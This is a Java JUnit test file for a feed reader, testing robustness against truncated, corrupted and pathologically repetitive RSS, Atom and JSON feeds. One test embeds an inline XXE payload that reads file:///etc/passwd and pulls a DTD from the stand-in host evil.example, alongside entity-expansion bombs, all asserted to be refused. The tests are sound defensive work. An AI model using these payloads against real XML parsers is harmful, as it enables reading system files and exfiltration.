package vn.portal.feed.read;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.entry;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import vn.portal.notice.Origin;

class HostileFeedsTest {
    private static final FeedHints HINTS = FeedHints.of(Origin.of("cu", "rss"));

    @ParameterizedTest
    @ValueSource(strings = {"nukeviet.xml", "broken.xml", "atom.xml", "rdf.xml", "feed.json"})
    void readsFeedsCutAnywhere(String file) throws IOException {
        var bytes = bytes(file);
        for (int i = 0; i <= bytes.length; i++) {
            assertThat(FeedReader.read(Arrays.copyOf(bytes, i), HINTS)).isNotNull();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"nukeviet.xml", "broken.xml", "atom.xml", "rdf.xml", "feed.json"})
    void readsFeedsWithFlippedBytes(String file) throws IOException {
        var random = new Random(file.length());
        for (int i = 0; i < 1000; i++) {
            var bytes = bytes(file);
            for (int flips = 0; flips < 5; flips++) {
                bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
            }
            assertThat(FeedReader.read(bytes, HINTS)).isNotNull();
        }
    }

    private byte[] bytes(String name) throws IOException {
        try (var in = getClass().getResourceAsStream(name)) {
            return in.readAllBytes();
        }
    }

    @Test
    void expandsNoBombAndFetchesNothing() {
        var feed = read(
                "<!DOCTYPE rss [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;\"><!ENTITY c SYSTEM \"file:///etc/passwd\">"
                        + "<!ENTITY % d SYSTEM \"http://evil.example/x.dtd\">%d;]><rss><channel><title>&a;|&b;|&c;</title></channel></rss>");
        assertThat(feed.header().title().value()).isEqualTo("ha||");
        assertThat(feed.notices().countByCode()).containsEntry("feed-entity-refused", 1L);
        assertThat(feed.notices().list().get(0).arguments()).containsEntry("count", "3");
    }

    @ParameterizedTest
    @ValueSource(strings = {"billion-laughs.xml", "xxe-file.xml", "xxe-out-of-band.xml"})
    void refusesWhatHostileFilesOfOthersAskFor(String file) throws IOException {
        var hostile = Path.of(System.getProperty("portal.corpus", ""), "hostile", "xml", file);
        assumeTrue(Files.exists(hostile), "hostile files are not beside this checkout (system property portal.corpus)");

        var feed = FeedReader.read(Files.readAllBytes(hostile), HINTS);

        assertThat(feed.notices().countByCode())
                .containsAnyOf(entry("feed-entity-refused", 1L), entry("feed-doctype-elsewhere", 1L));
        assertThat(feed.toString()).hasSizeLessThan(100_000).doesNotContain("root:x:");
    }

    @Test
    void letsNoEntityGrowBeyondALimit() {
        String entity = "<!DOCTYPE rss [<!ENTITY a \"" + "x".repeat(1000) + "\">]>";
        var feed = read(entity + "<rss><channel><title>" + "&a;".repeat(100_000) + "</title></channel></rss>");
        assertThat(feed.header().title().value()).hasSize(1_000_000);
        assertThat(feed.notices().countByCode()).containsKey("feed-entity-refused");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<item>",
                "<a>",
                "<a b=\"",
                "<a b=c ",
                "<![CDATA[",
                "<!--",
                "<!",
                "<",
                "&",
                "&#1;",
                "</item",
                "<?",
                "<!DOCTYPE [",
                "<x xmlns:a='b'>",
                "<description><![CDATA[",
                "]]>",
                "<item><guid>1</guid></item>",
                "<link href='",
                "\u0001"
            })
    void takesTimeInProportion(String piece) {
        String rss = "<rss><channel>" + piece.repeat(200_000);
        assertTimeout(Duration.ofSeconds(60), () -> assertThat(read(rss)).isNotNull());
    }

    @Test
    void nestsJsonToALimit() {
        var feed = read("{\"version\":\"https://jsonfeed.org/version/1\",\"items\":" + "[".repeat(100_000));
        assertThat(feed.isWellFormed()).isFalse();
    }

    private static ReadFeed read(String text) {
        return FeedReader.read(text.getBytes(StandardCharsets.UTF_8), HINTS);
    }
}
